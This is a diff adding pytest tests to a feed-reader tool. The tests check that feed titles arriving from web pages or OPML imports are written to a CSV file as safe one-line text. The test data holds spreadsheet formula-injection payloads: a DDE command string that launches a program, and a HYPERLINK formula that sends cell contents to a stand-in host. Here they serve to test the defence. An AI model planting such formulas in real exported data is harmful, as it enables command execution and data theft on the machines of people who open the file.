@@ -188,6 +188,24 @@ class TestFeedsAdd:
         assert not (tmp_path / "feeds.csv").exists()
 
 
+    def test_a_remote_title_with_a_newline_or_a_formula_is_written_as_one_line_of_text(self, tmp_path: Path) -> None:
+        """A feed titled over two lines gives a one-line name; a page whose site name is a formula gives text."""
+        routes = {
+            "/a/": Reply(body=home_page("/a/rss.xml")),
+            "/a/rss.xml": Reply(body=rss("Politics\n| The Harrowby Post", 3, NOW), content_type=RSS),
+            "/b/": Reply(body=home_page("/b/rss.xml").replace(b"The Harrowby Post", b"@SUM(1+1)*cmd|' /C calc'!A0")),
+            "/b/rss.xml": Reply(body=rss("", 3, NOW), content_type=RSS),
+        }
+        path = tmp_path / "feeds.csv"
+        with LoopbackServer(routes) as server:  # type: ignore[arg-type]
+            assert main(["feeds", "add", server.url("/a/"), "--pick", "1", "--feeds", str(path)]) == 0
+            assert main(["feeds", "add", server.url("/b/"), "--pick", "1", "--feeds", str(path)]) == 0
+
+        lines = path.read_text(encoding="utf-8").splitlines()
+        assert len(lines) == 3
+        assert lines[1].startswith("politics-the-harrowby-post,Politics | The Harrowby Post,")
+        assert lines[2].startswith("sum-1-1-cmd-c-calc-a0,'@SUM(1+1)*cmd|' /C calc'!A0,")
+
 OPML = b"""<?xml version="1.0" encoding="UTF-8"?>
 <opml version="2.0"><head><title>Exported from another reader</title></head><body>
 <outline text="UK politics">
@@ -245,6 +263,42 @@ class TestOpmlCommands:
         assert code == 1
         assert "feeds.csv row 3: feed_url must be http(s), got 'ftp://m.example/atom.xml'" in capsys.readouterr().err
         assert path.read_bytes() == before
+
+    def test_titles_that_are_formulas_or_span_lines_are_written_as_text(self, tmp_path: Path) -> None:
+        """Each new cell of feeds.csv is one line a spreadsheet shows as text; numbers and URLs stay as given."""
+        source = tmp_path / "reader.opml"
+        source.write_bytes(
+            b'<opml version="2.0"><body>'
+            b'<outline type="rss" text="=HYPERLINK(&quot;http://x/?&quot;&amp;A1,&quot;Click&quot;)" xmlUrl="https://a.example/rss"/>'
+            b'<outline type="rss" text="@SUM(A1:A9)" xmlUrl="https://b.example/rss"/>'
+            b'<outline type="rss" text="Home&#10;&#13;Page&#9;News" xmlUrl="https://c.example/rss"/>'
+            b'<outline type="rss" text="-42" xmlUrl="https://d.example/rss?x=1&amp;y=@2"/>'
+            b"</body></opml>"
+        )
+        path = feeds_file(tmp_path, "courier,Courier,https://c.example/courier.xml,true")
+
+        assert main(["feeds", "import", str(source), "--feeds", str(path)]) == 0
+
+        assert path.read_text(encoding="utf-8").splitlines()[2:] == [
+            'hyperlink-http-x-a1-click,"\'=HYPERLINK(""http://x/?""&A1,""Click"")",https://a.example/rss,true',
+            "sum-a1-a9,'@SUM(A1:A9),https://b.example/rss,true",
+            "home-page-news,Home Page News,https://c.example/rss,true",
+            "42,-42,https://d.example/rss?x=1&y=@2,true",
+        ]
+
+    def test_outlines_of_one_title_get_numbered_ids(self, tmp_path: Path) -> None:
+        """Two thousand outlines titled alike become two thousand rows, numbered in order after the first."""
+        outlines = "".join(
+            f'<outline type="rss" text="The Herald" xmlUrl="https://h.example/{number}.rss"/>' for number in range(2000)
+        )
+        source = tmp_path / "reader.opml"
+        source.write_text(f'<opml version="2.0"><body>{outlines}</body></opml>', encoding="utf-8")
+        path = feeds_file(tmp_path, "the-herald-3,Herald,https://h.example/old.rss,true")
+
+        assert main(["feeds", "import", str(source), "--feeds", str(path)]) == 0
+
+        ids = [line.split(",")[0] for line in path.read_text(encoding="utf-8").splitlines()[2:]]
+        assert ids == ["the-herald", "the-herald-2", *(f"the-herald-{number}" for number in range(4, 2002))]
 
     def test_export_to_standard_output(self, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
         """Without --out the OPML goes to standard output, one outline per feed."""
